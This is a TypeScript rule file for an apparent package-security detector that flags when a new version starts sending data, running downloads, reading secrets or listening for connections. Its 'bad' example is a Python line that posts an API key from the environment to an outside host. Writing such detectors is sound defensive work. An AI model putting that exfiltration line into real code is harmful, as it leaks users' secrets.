/** The rule that speaks of two versions: what the later one begins to do. */
import type { ExplainedRule } from '../detector.ts';
import { acts } from './acts.ts';
import type { Capabilities } from './capabilities.ts';
import { newlyDoes } from './newly.ts';

/** `bad` as it follows `good`. */
export const newCapability = {
  id: 'new-capability',
  severity: 'medium',
  consequence: 'advise',
  summary: 'This version does something grave that the version before it did not do.',
  explanation:
    'An author’s account or computer that was taken over shows first in what a new version begins to do. So this ' +
    'compares the records of two versions in the order in which they were published: whether the later one begins to ' +
    'send data of the machine, to run what it downloads, to read secrets, or to listen for connections. A first ' +
    'version has nothing before it, and what the version before did already is not found again. Read the difference ' +
    'of the two versions at the lines that it names.',
  examples: {
    bad: {
      path: 'scripts/report.py',
      text: 'import os, requests\n\nrequests.post("https://status.example.net/run", data={"key": os.environ["SERVICE_API_KEY"]})\n',
    },
    good: { path: 'scripts/report.py', text: 'import os\n\nprint("The report is done.")\n' },
  },
} as const satisfies ExplainedRule;

const messages: Readonly<Record<string, string>> = {
  [acts.sends]: 'This version begins to send data of the machine; the one before it did not.',
  [acts.runsDownloads]: 'This version begins to run what it downloads; the one before it did not.',
  [acts.readsSecrets]: 'This version begins to read secrets; the one before it did not.',
  [acts.listens]: 'This version begins to listen for connections; the one before it did not.',
};

interface NewCapabilityFinding {
  detector: string;
  severity: 'medium';
  path: string;
  line: number;
  message: string;
}

/** One for each act that is new. */
export function newCapabilityFindings(before: Capabilities, after: Capabilities): NewCapabilityFinding[] {
  return newlyDoes(before, after).acts.flatMap(({ name, path, line }) => {
    const message = messages[name];
    return message ? [{ detector: newCapability.id, severity: newCapability.severity, path, line, message }] : [];
  });
}
